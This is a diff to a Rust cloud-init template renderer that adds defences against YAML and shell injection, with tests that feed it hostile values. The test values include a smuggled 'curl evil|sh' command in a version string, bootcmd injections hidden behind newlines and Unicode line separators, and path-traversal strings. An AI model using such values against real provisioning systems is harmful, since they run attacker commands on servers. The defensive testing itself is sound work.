@@ -3,10 +3,20 @@
 //! The templates are plain files in `cloud-init/` at the repository root, so
 //! a reviewer reads exactly what a server receives; they are embedded with
 //! `include_str!` so the binary needs nothing beside it. Substitution is
-//! deliberately tiny (`{{ variable }}`, and `{{ variable | block }}` for a
-//! multi-line value standing alone on its line): user data is security
-//! relevant and must stay readable. A variable the caller did not provide is
-//! an error naming the template and the variable, never an empty string.
+//! deliberately tiny: user data is security relevant and must stay
+//! readable. A variable the caller did not provide is an error naming the
+//! template and the variable, never an empty string.
+//!
+//! No value can change the document it is put into (add a key, end a list,
+//! start a `bootcmd`), whatever characters it holds:
+//! - `{{ variable }}` stands where a YAML value goes, and is written as a
+//!   double-quoted scalar holding exactly the value ([`crate::yaml::quoted`]);
+//! - `{{ variable | word }}` may stand inside other text (a URL, a shell
+//!   command, a comment), so its value must be one word of letters, digits,
+//!   `.`, `_` and `-`, or rendering fails;
+//! - `{{ variable | block }}` is a multi-line value standing alone on its
+//!   line inside a literal block (`|`): every line must be printable ASCII,
+//!   the first not starting with a space, or rendering fails.
 //!
 //! Every node gets `base.yaml`; k3s nodes add `k3s.yaml`, kubeadm nodes
 //! `kubeadm.yaml`. cloud-config is a single YAML document, so the two are
@@ -18,6 +28,7 @@
 
 use std::collections::BTreeMap;
 
+use crate::inventory::KubernetesVersion;
 use crate::plan::UserDataTemplate;
 use crate::secret::Secret;
 
@@ -77,19 +88,24 @@ impl UserDataVars {
             ("host_public_key", self.host_public_key.trim().to_string()),
         ]);
         if let Some(version) = &self.kubernetes_version {
-            let minor = kubernetes_minor(version).ok_or_else(|| CloudInitError::InvalidValue {
-                variable: "kubernetes_minor".into(),
-                reason: format!(
-                    "Kubernetes version {version:?} is not of the form v1.31 or v1.31.4"
-                ),
-            })?;
-            map.insert("kubernetes_minor", minor);
+            // The same grammar `validate` holds the inventory to: the minor
+            // version becomes part of a package-repository URL.
+            let version: KubernetesVersion =
+                version
+                    .parse()
+                    .map_err(|reason| CloudInitError::InvalidValue {
+                        variable: "kubernetes_minor".into(),
+                        reason,
+                    })?;
+            map.insert("kubernetes_minor", version.minor_release());
         }
         Ok(map)
     }
 }
 
 /// `v1.31.4` → `v1.31` (the package repository's name for the minor version).
+/// Lenient (it takes `1.30` too); rendering does not use it, but holds the
+/// version to [`KubernetesVersion`]'s grammar, as `validate` does.
 pub fn kubernetes_minor(version: &str) -> Option<String> {
     let digits = version.trim().trim_start_matches('v');
     let mut parts = digits.split('.');
@@ -129,7 +145,7 @@ pub enum CloudInitError {
         variable: String,
     },
     /// A `| block` variable that does not stand alone on its line, or an
-    /// unknown filter.
+    /// unknown filter (only `word` and `block` exist).
     #[error(
         "cloud-init template {template}, line {line}: `{variable}` must be written \
          `{{{{ {variable} | block }}}}` alone on its line"
@@ -188,9 +204,10 @@ pub fn render(
     merge(base_name, &base, part_name, &part).map(Secret::new)
 }
 
-/// Replaces each `{{ variable }}` in `text` by its value, and each
-/// `{{ variable | block }}` (alone on its line) by its possibly multi-line
-/// value, every line indented like the placeholder.
+/// Replaces each `{{ variable }}` in `text` by its value as a double-quoted
+/// YAML scalar, each `{{ variable | word }}` by its value (one word, checked),
+/// and each `{{ variable | block }}` (alone on its line) by its possibly
+/// multi-line value (checked), every line indented like the placeholder.
 pub fn substitute(
     template: &str,
     text: &str,
@@ -224,10 +241,24 @@ pub fn substitute(
         rest = &after[end + 2..];
         match filter {
             None => {
-                if value.contains('\n') || value.contains('\r') {
+                // Quoting would keep a line break harmless, but no value
+                // of a one-line variable has one: it is a mistake upstream.
+                if value.chars().any(is_line_break) {
                     return Err(CloudInitError::MultilineValue {
                         template: template.to_string(),
                         variable: variable.to_string(),
+                    });
+                }
+                out.push_str(&crate::yaml::quoted(value));
+            }
+            Some("word") => {
+                if !is_word(value) {
+                    return Err(CloudInitError::InvalidValue {
+                        variable: variable.to_string(),
+                        reason: format!(
+                            "{template}, line {line}: the value is written inside other text, \
+                             so it must be one word of letters, digits, `.`, `_` and `-`"
+                        ),
                     });
                 }
                 out.push_str(value);
@@ -247,6 +278,12 @@ pub fn substitute(
                     || value.trim().is_empty()
                 {
                     return Err(bad());
+                }
+                if let Err(reason) = check_block(value) {
+                    return Err(CloudInitError::InvalidValue {
+                        variable: variable.to_string(),
+                        reason: format!("{template}, line {line}: {reason}"),
+                    });
                 }
                 for (i, value_line) in value.lines().enumerate() {
                     if i > 0 {
@@ -269,6 +306,47 @@ pub fn substitute(
     }
     out.push_str(rest);
     Ok(out)
+}
+
+/// Every character YAML (1.1, as cloud-init reads it, or 1.2) breaks a
+/// line at.
+fn is_line_break(c: char) -> bool {
+    matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
+}
+
+/// A value that may stand inside other text: in a URL, a quoted shell
+/// command, a comment or a literal block, these characters mean nothing.
+fn is_word(value: &str) -> bool {
+    !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+}
+
+/// A value for a literal block scalar: lines of printable ASCII (a CR
+/// before a LF is tolerated), the first neither empty nor starting with a
+/// space (the first line with text sets the block's indentation; a deeper
+/// one would let a later line end the block).
+fn check_block(value: &str) -> Result<(), String> {
+    let mut lines = value.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l));
+    if lines
+        .next()
+        .is_none_or(|first| first.is_empty() || first.starts_with(' '))
+    {
+        return Err("the first line of a block value is empty or starts with a space".into());
+    }
+    if !value
+        .split('\n')
+        .map(|l| l.strip_suffix('\r').unwrap_or(l))
+        .all(|l| l.bytes().all(|b| (b' '..=b'~').contains(&b)))
+    {
+        return Err(
+            "a block value may hold printable ASCII only (no control character, tab or \
+             line separator inside a line)"
+                .into(),
+        );
+    }
+    Ok(())
 }
 
 fn line_of(text: &str, offset: usize) -> usize {
@@ -432,9 +510,10 @@ mod tests {
         let text = render(UserDataTemplate::KubeadmWorker, &vars()).unwrap();
         let text = text.expose();
         assert!(text.starts_with("#cloud-config\n"));
-        assert!(text.contains("hostname: kiwi-core-general-01\n"));
-        assert!(text.contains("- name: kiwi\n"));
-        assert!(text.contains("      - ssh-ed25519 AAAATEST ops@kiwistack.io\n"));
+        // Every value is a double-quoted scalar (see `crate::yaml`).
+        assert!(text.contains("hostname: \"kiwi-core-general-01\"\n"));
+        assert!(text.contains("- name: \"kiwi\"\n"));
+        assert!(text.contains("      - \"ssh-ed25519 AAAATEST ops@kiwistack.io\"\n"));
         assert!(text.contains("NOPASSWD:ALL"));
         assert!(text.contains("disable_root: true"));
         assert!(text.contains("ssh_pwauth: false"));
@@ -447,12 +526,95 @@ mod tests {
         assert!(
             text.expose().contains(
                 "  ed25519_private: |\n    -----BEGIN OPENSSH PRIVATE KEY-----\n    AAAA\n    \
-                 BBBB\n    -----END OPENSSH PRIVATE KEY-----\n  ed25519_public: ssh-ed25519 \
-                 AAAAHOST\n"
+                 BBBB\n    -----END OPENSSH PRIVATE KEY-----\n  ed25519_public: \"ssh-ed25519 \
+                 AAAAHOST\"\n"
             ),
             "{}",
             text.expose()
         );
+    }
+
+    #[test]
+    fn a_value_full_of_yaml_syntax_stays_one_string() {
+        let mut v = vars();
+        let key = "ssh-ed25519 AAAATEST ops: {bootcmd: [[sh, -c, 'x']]} # \"q\" \\ ü";
+        v.ssh_public_key = key.into();
+        v.hostname = "a: b".into();
+        let text = render(UserDataTemplate::KubeadmWorker, &v).unwrap();
+        let doc: serde_norway::Value = serde_norway::from_str(text.expose()).unwrap();
+        assert_eq!(
+            doc["users"][0]["ssh_authorized_keys"][0].as_str(),
+            Some(key)
+        );
+        assert_eq!(doc["hostname"].as_str(), Some("a: b"));
+        assert!(doc.get("bootcmd").is_none(), "{}", text.expose());
+    }
+
+    #[test]
+    fn a_line_separator_in_a_value_is_refused_not_rendered() {
+        // YAML reads U+2028 (and U+0085, U+2029) as a line break: once, an
+        // invisible one in the key's comment added a bootcmd to every node.
+        for brk in ['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'] {
+            let mut v = vars();
+            v.ssh_public_key = format!("ssh-ed25519 AAAATEST ops{brk}bootcmd: [[reboot]]");
+            assert!(
+                matches!(
+                    render(UserDataTemplate::K3sServer, &v),
+                    Err(CloudInitError::MultilineValue { ref variable, .. }) if variable == "ssh_public_key"
+                ),
+                "{brk:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn words_and_blocks_are_held_to_their_grammar() {
+        let words = BTreeMap::from([("w", "v1.31/../x"), ("ok", "v1.31")]);
+        assert!(matches!(
+            substitute("t", "url: \"https://x/{{ w | word }}/\"\n", &words),
+            Err(CloudInitError::InvalidValue { .. })
+        ));
+        assert_eq!(
+            substitute("t", "url: \"https://x/{{ ok | word }}/\"\n", &words).unwrap(),
+            "url: \"https://x/v1.31/\"\n"
+        );
+        for bad in [
+            " indented\nx",
+            "\nx",
+            "a\tb",
+            "a\u{2028}b",
+            "a\rb",
+            "a\n\u{1b}[2J",
+        ] {
+            let vars = BTreeMap::from([("b", bad)]);
+            assert!(
+                matches!(
+                    substitute("t", "k: |\n  {{ b | block }}\n", &vars),
+                    Err(CloudInitError::InvalidValue { .. })
+                ),
+                "{bad:?}"
+            );
+        }
+        let crlf = BTreeMap::from([("b", "a\r\nb\r\n")]);
+        assert_eq!(
+            substitute("t", "k: |\n  {{ b | block }}\n", &crlf).unwrap(),
+            "k: |\n  a\n  b\n"
+        );
+    }
+
+    #[test]
+    fn kubeadm_nodes_need_a_strict_kubernetes_version() {
+        for bad in ["v1.31", "v1.31.4; curl evil|sh", "v1.31.4/../../x"] {
+            let mut v = vars();
+            v.kubernetes_version = Some(bad.into());
+            assert!(
+                matches!(
+                    render(UserDataTemplate::KubeadmWorker, &v),
+                    Err(CloudInitError::InvalidValue { .. })
+                ),
+                "{bad}"
+            );
+        }
     }
 
     #[test]
